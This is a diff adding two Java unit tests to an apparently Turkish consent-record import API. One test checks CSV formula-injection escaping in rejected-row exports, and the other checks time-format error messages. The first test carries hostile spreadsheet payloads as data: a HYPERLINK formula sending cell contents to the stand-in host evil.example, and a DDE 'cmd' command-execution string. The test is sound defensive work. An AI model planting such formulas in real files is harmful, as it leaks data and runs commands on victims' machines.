@@ -115,6 +115,55 @@ class ImportApiTest {
         assertThat(api.run(CSV, "", utf8(mended)).get("counts").toString()).isEqualTo("{\"APPLIED\":3}");
     }
 
+    @Test
+    void cellsOfAStrangerAreNoFormulasInTheRejectedRows_andLoadedAgainAsTheyWere() {
+        String attack = "=HYPERLINK(\"\"http://evil.example/\"\"&A1)";
+        byte[] file = utf8("brand,channel,recipient,status,source,consentAt,evidence.name,idempotencyKey\n"
+                + "600100,MESAJ,+905329998866,ONAY,HS_WEB,yesterday,\"" + attack + "\",@formula-1\n"
+                + "600100,MESAJ,+905329998867,ONAY,HS_WEB,yesterday,plain,-formula-2\n"
+                + "600100,MESAJ,\"+905329998868,ONAY,HS_WEB,=cmd|' /C calc'!A0\n");
+        JsonNode first = api.run(CSV, "", file);
+
+        String rejected = api.rejected(first.get("importId").asText());
+
+        assertThat(rejected.lines().skip(1))
+                .satisfiesExactly(
+                        line -> assertThat(line)
+                                .startsWith("600100,MESAJ,+905329998866,ONAY,HS_WEB,yesterday,\"'" + attack
+                                        + "\",'@formula-1,INVALID_TIME,"),
+                        line -> assertThat(line)
+                                .startsWith("600100,MESAJ,+905329998867,ONAY,HS_WEB,yesterday,plain,'-formula-2,"),
+                        line -> assertThat(line)
+                                .startsWith("\"600100,MESAJ,\"\"+905329998868,")
+                                .contains(",BAD_QUOTES,"));
+        String mended =
+                rejected.lines().limit(3).collect(Collectors.joining("\n")).replace("yesterday", "2026-01-02 03:04:05");
+        assertThat(api.run(CSV, "", utf8(mended)).get("counts").toString()).isEqualTo("{\"APPLIED\":2}");
+        String asSent = mended.replace("'=", "=").replace("'@", "@").replace("'-", "-");
+        assertThat(api.run(CSV, "", utf8(asSent)).get("counts").toString()).isEqualTo("{\"DUPLICATE\":2}");
+    }
+
+    @Test
+    void aTimeThatIsNoneIsExplainedInTheWordsOfTheFormat() {
+        String csv = api.rejected(api.run(
+                        CSV,
+                        "",
+                        utf8(HEADER + row("when@import.example", "ONAY").replace("2026-01-02", "02.01.26")))
+                .get("importId")
+                .asText());
+        String json = api.rejected(api.run(
+                        NDJSON,
+                        "",
+                        utf8(
+                                "{\"brand\":\"600100\",\"channel\":\"EPOSTA\",\"recipient\":\"when@import.example\",\"status\":\"ONAY\","
+                                        + "\"source\":\"HS_WEB\",\"consentAt\":\"2026-01-02 03:04:05\"}\n"))
+                .get("importId")
+                .asText());
+
+        assertThat(csv).contains("INVALID_TIME", "İstanbul saatidir");
+        assertThat(json).contains("INVALID_TIME", "saat farkıyla birlikte").doesNotContain("İstanbul saatidir");
+    }
+
     @ParameterizedTest
     @ValueSource(strings = {"windows-1254", "ISO-8859-9", "UTF-8"})
     void otherCharsetsAndTabsAreRead(String charset) {
